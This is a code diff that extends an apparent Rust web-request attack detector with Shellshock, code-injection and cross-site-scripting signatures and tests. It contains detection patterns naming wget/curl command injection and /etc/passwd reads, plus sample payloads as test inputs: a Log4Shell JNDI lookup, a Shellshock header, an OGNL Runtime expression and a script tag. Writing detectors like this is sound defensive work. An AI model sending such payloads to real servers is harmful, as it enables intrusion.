@@ -45,6 +45,21 @@ static LOOKUP: Attack = Attack {
     severity: Severity::High,
     says: "a look-up expression makes a vulnerable logger fetch and run a program",
 };
+static SHELL: Attack = Attack {
+    name: "Shellshock (CVE-2014-6271)",
+    severity: Severity::High,
+    says: "a header holds a function of a shell with commands behind it",
+};
+static CODE: Attack = Attack {
+    name: "code injection",
+    severity: Severity::High,
+    says: "a parameter holds an expression or a program that frameworks or the server would run",
+};
+static SCRIPT: Attack = Attack {
+    name: "cross-site scripting",
+    severity: Severity::Medium,
+    says: "a parameter holds a script that would run in the browser of who looks at the page",
+};
 static COMMAND: Attack = Attack {
     name: "command injection",
     severity: Severity::High,
@@ -83,6 +98,9 @@ fn judge(text: &str) -> Option<&'static Attack> {
     if has(&["${jndi:", "${lower:", "${upper:", "${::-", "${env:"]) {
         return Some(&LOOKUP);
     }
+    if text.starts_with("() {") && text.contains(';') {
+        return Some(&SHELL);
+    }
     let climbs = text.matches("../").count() + text.matches("..\\").count();
     if climbs >= 3 || (climbs >= 1 && has(&["/etc/passwd", "/bin/sh", "win.ini", "boot.ini"])) {
         return Some(&TRAVERSAL);
@@ -97,6 +115,25 @@ fn judge(text: &str) -> Option<&'static Attack> {
     if has(&[";wget ", ";curl ", "|/bin/", "`wget", "$(wget", "&&wget ", ";cat /etc", "/bin/sh -c"])
     {
         return Some(&COMMAND);
+    }
+    let code = [
+        "%{(#",
+        "${(#",
+        "#_memberaccess",
+        "@java.lang.runtime",
+        "class.module.classloader",
+        "auto_prepend_file",
+        "eval(base64_decode",
+        "call_user_func_array",
+    ];
+    if has(&code) {
+        return Some(&CODE);
+    }
+    let parameters = text.split_once('?').map_or("", |(_, parameters)| parameters);
+    let runs = ["<script", "</script", "javascript:", "<svg/onload", "<svg onload"];
+    let handler = parameters.contains('<') && parameters.contains("onerror=");
+    if handler || runs.iter().any(|word| parameters.contains(word)) {
+        return Some(&SCRIPT);
     }
     None
 }
@@ -138,6 +175,10 @@ fn cases() -> Vec<crate::testing::Case> {
         Case::fires("traversal, hidden twice", one("/cgi-bin/.%%32%65/.%2e/%2e%2e/%2e%2e/bin/sh")),
         Case::fires("injection", one("/item?id=1%27+union+select+user+from+users%23")),
         Case::fires("a look-up", one("authorization: Bearer ${jndi:ldap://192.0.2.1/a}")),
+        Case::fires("a shell's function", one("() { :;}; /bin/ping -c 1 192.0.2.1")),
+        Case::fires("an expression", one("/a.action?x=%25%7B%28%23a%3D%40java.lang.Runtime%29%7D")),
+        Case::fires("a script", one("/search?name=%3Cscript%3Ealert%281%29%3C%2Fscript%3E")),
+        Case::silent("a page about scripts", one("/doc/%3Cscript%3E.html?lang=javascript")),
         Case::silent("a page", one("/index.html?page=2&name=O%27Brien")),
         Case::silent("a relative link", one("/styles/../main.css")),
     ]
